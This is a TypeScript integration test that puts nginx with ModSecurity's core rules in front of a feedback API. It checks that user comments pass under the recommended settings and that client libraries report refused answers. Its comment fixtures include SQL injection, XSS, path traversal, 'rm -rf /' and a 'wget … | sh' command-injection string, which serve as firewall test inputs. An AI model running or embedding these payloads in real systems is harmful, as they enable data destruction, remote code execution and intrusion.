import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import {
  createClient,
  createOutbox,
  memoryStorage,
  type NewAnswer,
  newId,
} from '../../../clients/javascript/src/index.ts';
import { createServerClient } from '../../../clients/javascript/src/server/index.ts';
import { createApi, createWorker, type TestApi, waitFor } from '../../support/api.ts';
import { makeTenant, publishQuestion } from '../../support/make.ts';
import { freePort } from '../../support/process.ts';
import { isFound } from '../../support/required.ts';
import { blocksOf } from '../../support/web-proxies.ts';

/** Of Debian's packages nginx-light, libnginx-mod-http-modsecurity and modsecurity-crs. */
const NGINX = '/usr/sbin/nginx';
const MODULE = '/usr/lib/nginx/modules/ngx_http_modsecurity_module.so';
const RULES = '/usr/share/modsecurity-crs/rules';
const hasFirewall = isFound(
  [NGINX, MODULE, RULES].every(existsSync),
  'proxies',
  'nginx with ModSecurity and its core rules',
  'the check of a firewall is',
);

/** Comments as people write them, and as a firewall fears them. */
const COMMENTS = [
  'Great, thank you! 🎉',
  '👩‍👩‍👧‍👦 ❤️ 100 %',
  'Ich finde es „gut“ – größtenteils.',
  '使いやすいです。ありがとう！',
  'شكرا، كل شيء ممتاز',
  'It is 5 < 6 and 7 > 3.',
  "Robert'); DROP TABLE students;--",
  "1' OR '1'='1",
  'Please select the best plan from the list where I can pay yearly',
  'SELECT name, email FROM users WHERE id = 1 UNION SELECT password, 1 FROM admins',
  "The export says: SELECT * FROM answers; and it's empty",
  '<b>Bold</b> would be nice',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  'Your page has <div class="card"> without an end',
  '../../etc/passwd',
  'I ran cat /etc/passwd && rm -rf / by accident',
  '; wget http://example.com/x.sh | sh',
  '<?php echo 1; ?>',
  '{{7*7}}',
  'Price: $5; tax: 19 %; total -> 5.95 €',
  'https://example.com/?q=<script>',
  'x'.repeat(4000),
];

const configOf = (folder: string, port: number, upstream: string): string => `
load_module ${MODULE};
daemon off; master_process off; pid ${folder}/pid; error_log stderr crit;
events {}
http {
  access_log off;
  client_body_temp_path ${folder}/body; proxy_temp_path ${folder}/proxy;
  fastcgi_temp_path ${folder}/fastcgi; uwsgi_temp_path ${folder}/uwsgi; scgi_temp_path ${folder}/scgi;
  modsecurity on;
  modsecurity_rules_file ${folder}/rules.conf;
  server { listen 127.0.0.1:${port}; location / { proxy_pass ${upstream}; proxy_set_header Host $http_host; } }
}`;

/** The recommended engine, and the core rules as they are installed, after settings of the operator. */
const engineWith = (settings: string): string => `
SecRuleEngine On
SecRequestBodyAccess On
SecRequestBodyLimit 13107200
SecRequestBodyNoFilesLimit 131072
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
Include /etc/modsecurity/crs/crs-setup.conf
${settings}
Include ${RULES}/*.conf
`;

/** Runs nginx with ModSecurity in front of a server; returns its URL. */
async function runFirewall(stack: AsyncDisposableStack, upstream: string, settings = ''): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'parley-firewall-'));
  stack.defer(() => rm(folder, { recursive: true }));
  const port = await freePort();
  const url = `http://localhost:${port}`;
  await writeFile(join(folder, 'rules.conf'), engineWith(settings));
  await writeFile(join(folder, 'nginx.conf'), configOf(folder, port, upstream));
  const nginx = spawn(NGINX, ['-c', join(folder, 'nginx.conf')], { stdio: 'inherit' });
  stack.defer(async () => {
    nginx.kill();
    await once(nginx, 'exit');
  });
  await waitFor(() =>
    fetch(`${url}/livez`).then(
      ({ ok }) => ok,
      () => false,
    ),
  );
  return url;
}

describe.runIf(hasFirewall)('behind nginx with the core rules of ModSecurity', () => {
  const stack = new AsyncDisposableStack();
  let api: TestApi;
  let baseUrl: string;

  beforeAll(async () => {
    api = stack.use(await createApi());
    stack.use(await createWorker(api));
    baseUrl = await runFirewall(stack, api.baseUrl);
  });
  afterAll(() => stack.disposeAsync());

  /** Whether the firewall lets a request pass: Parley then asks for a credential. */
  async function isPassed(url: string, path: string, method: string, content?: object): Promise<boolean> {
    const headers = { 'Content-Type': 'application/json' };
    const body = content === undefined ? null : JSON.stringify(content);
    const { status } = await fetch(`${url}${path}`, { method, headers, body });
    expect([401, 403]).toContain(status);
    return status === 401;
  }
  const passes = (answer: object, url = baseUrl): Promise<boolean> =>
    isPassed(url, '/v1/answers', 'POST', { client_time: new Date().toISOString(), answers: [answer] });

  async function prepare() {
    const tenant = await makeTenant(api);
    const question = await publishQuestion(api, tenant, { frequency: { repeat: 'always', ignore_cooldown: true } });
    const answerWith = (comment: string): NewAnswer => ({
      ...{ id: newId(), revision: 1, question_id: question.id, question_version: 1, state: 'completed' },
      ...{ values: { main: 5 }, comment, answered_at: new Date().toISOString() },
    });
    const stored = (count: number) =>
      waitFor(async () => {
        const { body } = await api.request('GET', '/v1/answers?limit=100', { as: tenant.key.apiKey });
        return body.data.length >= count && body.data.map(({ id }: { id: string }) => id);
      });
    return { tenant, answerWith, stored };
  }

  async function split<Answer extends { id: string }>(answers: Answer[]) {
    const isPassing = await Promise.all(answers.map(answer => passes(answer)));
    const ids = (passing: boolean) => answers.flatMap(({ id }, index) => (isPassing[index] === passing ? [id] : []));
    expect(ids(true).length).toBeGreaterThan(5);
    expect(ids(false).length).toBeGreaterThan(5);
    return { passing: ids(true), refused: ids(false) };
  }

  test('with the settings of the guide, every method and every comment passes', async () => {
    const requests: [path: string, method: string][] = [
      ['/v1/identities/user%7C1', 'PUT'],
      ['/v1/me/attributes', 'PATCH'],
      ['/v1/questions/question_01h455vb4pex5vsknk084sn02q', 'DELETE'],
    ];
    const settings = blocksOf('modsecurity').join('\n');
    expect(settings).not.toBe('');
    const open = await runFirewall(stack, api.baseUrl, settings);
    for (const [path, method] of requests) {
      expect(await isPassed(baseUrl, path, method, {}), `${method} by default`).toBe(false);
      expect(await isPassed(open, path, method, {}), method).toBe(true);
    }
    for (const comment of COMMENTS) expect(await passes({ comment }, open), comment).toBe(true);
  });

  test('an outbox: what passes is stored, the rest waits and is reported', async () => {
    const { tenant, answerWith, stored } = await prepare();
    const token = await tenant.sign('user|1');
    const client = createClient({ baseUrl, provider: () => ({ access_token: token }) });
    const [card] = await client.listCards();
    const answers = COMMENTS.map(comment => ({ ...answerWith(comment), card_id: card?.id as string }));
    const { passing, refused } = await split(answers);
    const reported: string[] = [];
    const lost: string[] = [];
    const outbox = createOutbox(client, {
      storage: memoryStorage(),
      automatic: false,
      onRefused: ({ id }) => void reported.push(id),
      onLost: ({ id }) => void lost.push(id),
    });
    for (const answer of answers) await outbox.record(answer);
    expect(await outbox.flush()).toEqual({ outcome: 'later', nextTryMs: expect.any(Number) });
    expect((await stored(passing.length)).toSorted()).toEqual(passing.toSorted());
    expect((await outbox.waiting()).map(({ id }) => id)).toEqual(refused);
    expect(reported.toSorted()).toEqual(refused.toSorted());
    expect(lost).toEqual([]);
  });

  test('a backend: what passes is accepted, the rest is rejected as refused', async () => {
    const { tenant, answerWith, stored } = await prepare();
    const answers = COMMENTS.map(comment => ({ ...answerWith(comment), identity: 'user|1' }));
    const { passing, refused } = await split(answers);
    const parley = createServerClient({ baseUrl, apiKey: tenant.key.apiKey });
    const { results } = await parley.answers.record({ answers });
    expect(results.map(({ id }) => id)).toEqual(answers.map(({ id }) => id));
    expect(results.filter(({ code }) => code === 'refused').map(({ id }) => id)).toEqual(refused);
    expect((await stored(passing.length)).toSorted()).toEqual(passing.toSorted());
  });
});
